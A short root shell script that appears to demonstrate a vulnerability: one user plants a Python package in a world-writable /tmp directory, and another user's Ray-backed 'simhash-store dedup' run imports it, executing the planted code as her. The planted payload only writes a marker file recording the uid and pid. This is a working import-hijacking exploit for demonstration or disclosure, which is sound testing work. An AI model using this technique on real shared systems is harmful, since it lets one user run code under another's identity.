#!/bin/sh
# Run as root. h13mallory plants a `simhash_store` package in a directory every user may write
# (/tmp/h13shared, mode 1777 like /tmp); h13alice runs `dedup --ray auto` there against her own
# running Ray cluster (RAY_TMPDIR=~/raytmp, RAY_AUTH_MODE=token). Ray puts the driver's working
# directory first on its workers' sys.path: the planted package ran in her workers, as her.
# Usage: ray_cwd_import.sh DB_URL
set -e
DB=$1
mkdir -p -m 1777 /tmp/h13shared
rm -f /tmp/h13shared/pwned-*
su - h13mallory -c "mkdir -p /tmp/h13shared/simhash_store && cat > /tmp/h13shared/simhash_store/__init__.py" <<'PLANTED'
import os
with open('/tmp/h13shared/pwned-' + str(os.getuid()), 'w') as f:
    f.write('code of h13mallory ran as uid %d in pid %d\n' % (os.getuid(), os.getpid()))
raise ImportError('planted')
PLANTED
su - h13mallory -c "chmod -R a+rX /tmp/h13shared/simhash_store"
su - h13alice -c "cd /tmp/h13shared && printf '{\"key\":\"%s\",\"text\":\"a new text %s about the weather\"}\n' \$\$ \$\$ > in-\$\$.jsonl && RAY_AUTH_MODE=token RAY_TMPDIR=/home/h13alice/raytmp timeout 150 ~/venv/bin/simhash-store --db $DB dedup in-\$\$.jsonl --ray auto -o ~/out-\$\$.jsonl 2>&1 | grep -v '^/' | tail -2"
cat /tmp/h13shared/pwned-* 2>/dev/null || echo "nothing of h13mallory's ran"
